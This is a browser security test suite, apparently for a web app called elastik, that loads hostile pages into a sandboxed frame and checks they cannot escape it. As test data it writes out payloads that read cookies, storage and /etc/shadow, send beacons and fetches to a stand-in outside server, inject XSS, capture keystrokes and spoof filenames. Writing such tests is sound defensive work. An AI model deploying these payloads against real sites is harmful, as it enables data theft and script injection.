/**
 * Hostile content in the shell's frame. It writes what it could access into its page, where the test
 * reads it; a second server records what it reached.
 */

import { assert, assertEquals, assertRejects } from "../support/assert.ts";
import { openPage, type Page, startBrowser } from "./browser.ts";
import { startBrowserServer } from "./browser_server.ts";

/** Each attempt returns what it could access. All must fail. */
const ATTEMPTS: Record<string, string> = {
  "the parent's document": "return parent.document.title",
  "the top's document": "return top.document.body.innerHTML",
  "the shell's session": "return parent.sessionStorage.length",
  "a sibling frame": "return parent.frames[1] === undefined ? refuse() : parent.frames[1].document",
  "its own cookies": "return document.cookie",
  "setting a cookie": "document.cookie = 'a=b'; return document.cookie",
  "session storage": "return sessionStorage.length",
  "local storage": "return localStorage.length",
  "a database": "return indexedDB.open('x')",
  "a cache": "return await caches.open('x')",
  "a service worker": "return await navigator.serviceWorker.register('/home/sw.js?raw')",
  "a worker": "return await started(new Worker('/home/sw.js?raw'))",
  "a worker of its own":
    "return await started(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))",
  "fetch of /etc/shadow": "return (await fetch('/etc/shadow?raw')).status",
  "fetch of a world": "return (await fetch('/home/secret?raw', { mode: 'no-cors' })).type",
  "fetch of a foreign host": "return (await fetch(OUTSIDE, { mode: 'no-cors' })).type",
  "minting":
    "return (await fetch('/auth/mint?prefix=/', { method: 'POST', mode: 'no-cors' })).type",
  "a beacon": "navigator.sendBeacon(OUTSIDE + 'beacon', 'x'); refuse()",
  "an XMLHttpRequest":
    "const x = new XMLHttpRequest(); x.open('GET', '/etc/shadow?raw', false); x.send(); return x.status",
  "an event stream":
    "return await new Promise((ok, no) => { const s = new EventSource('/stream/home/secret'); s.onopen = ok; s.onerror = no })",
  "a socket":
    "return await new Promise((ok, no) => { const s = new WebSocket('ws://127.0.0.1:1'); s.onopen = ok; s.onerror = no })",
  "a frame of a world": "return await framed('/home/secret?raw')",
  "a frame of the shell": "return await framed('/home/secret')",
  "a popup": "return open('/home/secret') ?? refuse()",
  "the top's navigation": "top.location = OUTSIDE; refuse()",
  "the parent's navigation": "parent.location.href = OUTSIDE; refuse()",
  "a link to the top":
    "const a = document.createElement('a'); a.href = OUTSIDE; a.target = '_top'; document.body.append(a); a.click(); refuse()",
  "a form":
    "const f = document.createElement('form'); f.method = 'post'; f.action = '/home/form'; f.target = '_top'; document.body.append(f); f.submit(); refuse()",
  "a module of another world": "return await import('/home/module.js?raw')",
  "a dialog": "return prompt('password?') ?? refuse()",
  "a download":
    "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; document.body.append(a); a.click(); refuse()",
  "full screen": "await document.documentElement.requestFullscreen(); return 1",
  "the clipboard": "return await navigator.clipboard.readText()",
  "the position":
    "return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))",
};

/** Attempts that succeed in a page without the frame. */
const WITHOUT_FRAME = [
  "setting a cookie",
  "local storage",
  "a cache",
  "fetch of a world",
  "a worker of its own",
];

/** @param limitMs after this time without a result, an attempt has failed */
function hostile(outside: string, wanted = Object.keys(ATTEMPTS), limitMs = 700): string {
  const attempts = wanted.map((name) =>
    `[${JSON.stringify(name)}, async () => { ${ATTEMPTS[name]} }],`
  );
  return `<!doctype html><title>hostile</title><body><script>
const OUTSIDE = ${JSON.stringify(outside)};
function refuse() { throw new Error("refused"); }
function started(worker) {
  return new Promise((ok, no) => { worker.onmessage = ok; worker.onerror = no; });
}
function framed(src) {
  return new Promise((ok, no) => {
    const frame = document.createElement("iframe");
    frame.src = src;
    frame.onload = () => { try { frame.contentDocument.body ? no() : ok(1) } catch { no() } };
    document.body.append(frame);
    setTimeout(no, 500);
  });
}
(async () => {
  const got = [];
  for (const [name, attempt] of [${attempts.join("\n")}]) {
    const late = new Promise((ok, no) => setTimeout(no, ${limitMs}));
    try {
      const found = await Promise.race([attempt(), late]);
      if (found !== undefined && found !== "") got.push(name + ": " + found);
    } catch {}
  }
  document.body.append(Object.assign(document.createElement("p"), { id: "done", textContent: JSON.stringify(got) }));
})();
</script>`;
}

Deno.test("hostile content of a world stays in its frame", async (t) => {
  const browser = await startBrowser();
  const server = await startBrowserServer();
  const visits: string[] = [];
  const outside = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen: () => {} }, (request) => {
    const { pathname } = new URL(request.url);
    if (pathname === "/control") {
      // Others would navigate away. These succeed at once, or late on a slow computer.
      const page = hostile(request.url, WITHOUT_FRAME, 60_000);
      return new Response(page, { headers: { "content-type": "text/html" } });
    }
    if (pathname !== "/favicon.ico") visits.push(`${request.method} ${pathname}`);
    return new Response("outside", { headers: { "access-control-allow-origin": "*" } });
  });
  const outsideUrl = `http://127.0.0.1:${outside.addr.port}/`;
  const signedIn = async (path: string) => {
    const opened = await openPage(browser);
    await opened.page.goto(server.url);
    await opened.page.evaluate(
      `sessionStorage.setItem("elastik.authorization", "Bearer ${server.approve}")`,
    );
    await opened.page.goto(server.url + path);
    return opened;
  };
  try {
    await server.put("/home/secret", "<p>secret</p>");
    await server.put("/home/sw.js", "postMessage(1)");
    await server.put("/home/module.js", "export default 1");
    await server.put("/home/hostile", hostile(outsideUrl));

    await t.step("accesses nothing outside its frame, even if the viewer has T3", async () => {
      const { page } = await signedIn("/home/hostile");
      const popups: string[] = [];
      page.context().on("page", (popup) => popups.push(popup.url()));
      page.on("download", () => popups.push("download"));
      const done = page.frameLocator(".stage iframe").locator("#done");
      await done.waitFor({ timeout: 120_000 });
      assertEquals(JSON.parse(await done.textContent() ?? ""), []);
      assertEquals(page.url(), `${server.url}/home/hostile`);
      assertEquals(popups, []);
      assertEquals(visits, []);
      const names = await (await fetch(`${server.url}/home/`)).text();
      assertEquals(names.split("\n").filter((name) => /beacon|form/.test(name)), []);
      assertEquals(
        await page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)"),
        0,
      );
      await page.context().close();
    });

    await t.step("would access much of it without the frame", async () => {
      const { page } = await openPage(browser);
      await page.goto(`${outsideUrl}control`);
      const done = page.locator("#done");
      await done.waitFor({ timeout: 120_000 });
      const got = JSON.parse(await done.textContent() ?? "").join();
      for (const what of WITHOUT_FRAME) {
        assert(got.includes(what), `${what} is not accessible without the frame either: ${got}`);
      }
      visits.length = 0;
      await page.context().close();
    });

    await t.step("cannot send data to another server by navigation", async () => {
      const leave = (how: string) => `<p>mine</p><script>setTimeout(() => { ${how} }, 50)</script>`;
      const navigations = {
        location: `location = ${JSON.stringify(outsideUrl)} + "location"`,
        replace: `location.replace(${JSON.stringify(outsideUrl)} + "replace")`,
        refresh:
          `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=${outsideUrl}refresh" }))`,
        link:
          `const a = document.createElement("a"); a.href = "${outsideUrl}link"; document.body.append(a); a.click()`,
        open: `open(${JSON.stringify(outsideUrl)}, "_self")`,
        raw: `location = "/home/secret?raw"`,
      };
      for (const [name, how] of Object.entries(navigations)) {
        await server.put("/home/navigates", leave(how));
        const { page } = await signedIn("/home/navigates");
        await page.locator(".stage iframe").waitFor();
        await page.waitForTimeout(250);
        assertEquals(visits, [], name);
        const secret = page.frameLocator(".stage iframe").getByText("secret", { exact: true });
        assertEquals(await secret.count(), 0, name);
        assertEquals(page.url(), `${server.url}/home/navigates`);
        await page.context().close();
      }
    });

    await t.step("receives its own bytes only, and never the credential", async () => {
      await server.put(
        "/home/listener",
        `<p id="out"></p><script>
          const seen = [];
          addEventListener("message", (event) => { seen.push(event.data); show(); });
          const post = MessagePort.prototype.postMessage;
          MessagePort.prototype.postMessage = function (data) { seen.push(data); show(); return post.call(this, data); };
          function show() { out.textContent = JSON.stringify(seen); }
          dispatchEvent(new Event("scroll"));
          parent.postMessage({ shown: true, link: "javascript:alert(1)" }, "*");
        </script>`,
      );
      const { page } = await signedIn("/home/listener");
      const out = page.frameLocator(".stage iframe").locator("#out");
      await page.waitForTimeout(300);
      assert(!(await out.textContent() ?? "").includes(server.approve));
      const html = await page.frames().at(-1)?.content();
      assert(html !== undefined && !html.includes(server.approve));
      await page.context().close();
    });

    await t.step("can propose a link, which opens only if the user clicks it", async () => {
      await server.put(
        "/home/linker",
        `<a href="${outsideUrl}x">away</a><a href="javascript:parent.x=1">run</a>`,
      );
      const { page } = await signedIn("/home/linker");
      await page.frameLocator(".stage iframe").getByText("away").click();
      const link = page.locator(".link-bar a");
      assertEquals(await link.getAttribute("href"), `${outsideUrl}x`);
      assertEquals(await link.getAttribute("rel"), "noopener noreferrer");
      await page.frameLocator(".stage iframe").getByText("run").click();
      await page.getByText("javascript:parent.x=1").waitFor();
      assertEquals(await link.count(), 0);
      assertEquals(visits, []);
      await page.context().close();
    });

    await t.step(
      "is text in names, metadata, Markdown and JSON",
      async () => {
        const evil = `<img src=x onerror="globalThis.hit=1"><script>globalThis.hit=1</script>`;
        const name = "/home/<img src=x onerror=hit=1>.md".replace(/[<>]/g, "'");
        await server.put(
          encodeURI(name),
          `# ${evil}\n\n${evil}\n\n[a](javascript:hit=1) [b](data:text/html,x) ![c](${outsideUrl}pic) <javascript:hit=1>\n`,
          { "x-meta-author": evil },
        );
        await server.put("/home/evil.json", JSON.stringify({ [evil]: evil, __proto__: { x: 1 } }));
        await server.put(
          "/home/evil2.md",
          [
            `> [!NOTE]\n> ${evil}\n`,
            `x[^1] ![${evil}](data:text/html,x "${"onerror"}") <b onclick=hit=1>\n`,
            `[^1]: ${evil} [a](JaVaScRiPt:hit=1)\n`,
            `<iframe src=javascript:hit=1>\n\n# notes\n\n# main\n`,
            "```js\n" + evil + "\n```\n",
          ].join("\n"),
        );
        await server.put("/home/evil.js", `// ${evil}\nconst a = "${evil}";\n`);
        await server.put(
          "/home/evil.txt",
          Uint8Array.from(`\u00e9\u00e8 ${evil}`, (char) => char.charCodeAt(0)),
        );
        await server.put("/home/evil.csv", `${evil},b\n"${evil.replaceAll('"', '""')}",2\n`);
        const evils = ["evil2.md", "evil.json", "evil.js", "evil.txt", "evil.csv", ""];
        for (const path of [encodeURI(name), ...evils.map((item) => `/home/${item}`)]) {
          const { page, messages } = await openPage(browser);
          await page.goto(server.url + path);
          await page.getByText("onerror").first().waitFor();
          await page.waitForTimeout(150);
          assertEquals(await page.evaluate("globalThis.hit"), undefined, path);
          const forbidden = "main img, main script, main iframe, [onclick], [onerror]";
          assertEquals(await page.locator(forbidden).count(), 0, path);
          assertEquals(await page.locator("#main, #notes").count(), 2, path);
          assertEquals(
            await page.locator("a[href^='javascript'], a[href^='data']").count(),
            0,
            path,
          );
          assertEquals(messages, [], path);
          await page.context().close();
        }
        assertEquals(visits, []);
      },
    );

    await t.step("is text in the search, the log, comparisons and the preview", async () => {
      const evil = `<img src=x onerror="globalThis.hit=1"><script>globalThis.hit=1</script>`;
      for (const version of ["one", "two"]) {
        await server.put("/home/evil3.md", `${evil} ${version}\n`, { "x-meta-author": evil });
      }
      for (
        const path of [
          "/proc/search/home/?q=onerror",
          `/proc/search/home/?q=${encodeURIComponent("<img src=x onerror")}`,
          "/home/evil3.md?compare=1..2",
          "/home/evil3.md?at=1",
          "/proc/log/home/",
        ]
      ) {
        const { page, messages } = await openPage(browser);
        await page.goto(server.url + path);
        await page.getByText(path.includes("/log/") ? "evil3" : "onerror").first().waitFor();
        assertEquals(await hits(page), [undefined, 0], path);
        assertEquals(messages, [], path);
        await page.context().close();
      }
      const { page, messages } = await openPage(browser);
      await page.goto(`${server.url}/home/evil3.md`);
      await page.getByText("version 2", { exact: true }).waitFor();
      await page.keyboard.press("/");
      await page.keyboard.type("onerror");
      await page.getByRole("option").filter({ hasText: "onerror" }).first().waitFor();
      assertEquals(await hits(page), [undefined, 0], "the search");
      await page.keyboard.press("Escape");
      await page.locator("dialog").waitFor({ state: "detached" });
      await page.keyboard.press("e");
      await page.locator(".preview").getByText("onerror").first().waitFor();
      assertEquals(await hits(page), [undefined, 0], "the preview");
      assertEquals(messages, []);
      assertEquals(visits, []);
      await page.context().close();
    });

    await t.step("cannot hide or reorder a part of its name", async () => {
      await server.put("/home/odd/%E2%80%AEgpj.exe", "x");
      await server.put("/home/odd/%20", "x");
      const { page, messages } = await openPage(browser);
      await page.goto(`${server.url}/home/odd/`);
      await page.locator("#main").getByText("␣", { exact: true }).waitFor();
      await page.locator("#main").getByText("‹U+202E›gpj.exe", { exact: true }).click();
      await page.getByRole("heading", { name: "‹U+202E›gpj.exe" }).waitFor();
      await page.locator("#crumbs").getByText("‹U+202E›gpj.exe").waitFor();
      assertEquals(new URL(page.url()).pathname, "/home/odd/%E2%80%AEgpj.exe");
      assertEquals(await page.title(), "/home/odd/‹U+202E›gpj.exe");
      assertEquals(messages, []);
      await page.context().close();
    });

    await t.step("does not receive what is typed into a dialog", async () => {
      await server.put(
        "/home/steals",
        `<input id="i"><script>
          addEventListener("keydown", (event) => document.title += event.key);
          setInterval(() => { i.focus(); window.focus(); }, 50);
        </script>`,
      );
      const { page } = await openPage(browser);
      await page.goto(`${server.url}/home/steals`);
      await page.frameLocator(".stage iframe").locator("#i").waitFor();
      const frames = page.locator(".stage iframe");
      await page.locator("#who").click();
      await page.getByLabel("Token or password").waitFor();
      // Every key, also the first one: the frame is not in the page.
      await page.keyboard.type("secret");
      assertEquals(await page.getByLabel("Token or password").inputValue(), "secret");
      assertEquals(await frames.count(), 0);
      await server.put("/home/steals", "<p>second</p><script>setInterval(focus, 50)</script>");
      await page.getByText("version 2").waitFor();
      await page.keyboard.type("more");
      assertEquals(await page.getByLabel("Token or password").inputValue(), "secretmore");
      assertEquals(await frames.count(), 0);
      await page.keyboard.press("Escape");
      await page.frameLocator(".stage iframe:not(.coming)").getByText("second").waitFor();
      // Another dialog removes the frame at its first attempt.
      await page.locator("#find").click();
      await page.getByText("Removed, because it took the focus of a dialog.").waitFor();
      assertEquals(await frames.count(), 0);
      await page.context().close();
    });

    await t.step("runs the script of an SVG only inside the frame", async () => {
      await server.put(
        "/home/evil.svg",
        `<svg xmlns="http://www.w3.org/2000/svg"><text y="20" id="t">still</text><script>
          let got = "nothing"; try { got = parent.document.title } catch {} try { got = localStorage.length } catch {}
          fetch("${outsideUrl}svg", { mode: "no-cors" }).then(() => { got = "out" }, () => {});
          onclick = () => { location = "${outsideUrl}svg-left" };
          document.getElementById("t").textContent = "got " + got;
        </script></svg>`,
      );
      const { page } = await signedIn("/home/evil.svg");
      await page.frameLocator(".stage iframe").getByText("got nothing").click();
      await page.waitForTimeout(800);
      assertEquals(visits, []);
      await page.context().close();
    });

    await t.step("cannot make the shell parse a string as markup or code", async () => {
      const { page } = await openPage(browser);
      await page.goto(`${server.url}/home/`);
      for (
        const way of [
          "document.body.innerHTML = '<b>x</b>'",
          "document.write('x')",
          "document.body.insertAdjacentHTML('beforeend', '<i>x</i>')",
          "setTimeout('globalThis.hit = 1')",
          "document.createElement('script').src = '/home/sw.js?raw'",
        ]
      ) await assertRejects(page.evaluate(way), /TrustedHTML|TrustedScript/, way);
      await page.context().close();
    });
  } finally {
    await browser.close();
    await outside.shutdown();
    await server.stop();
  }
});

/** Whether a script of the content ran, and how many of its elements are in the page. */
async function hits(page: Page): Promise<unknown[]> {
  const forbidden = "main img, main script, main iframe, dialog img, dialog script, [onerror]";
  return [await page.evaluate("globalThis.hit"), await page.locator(forbidden).count()];
}
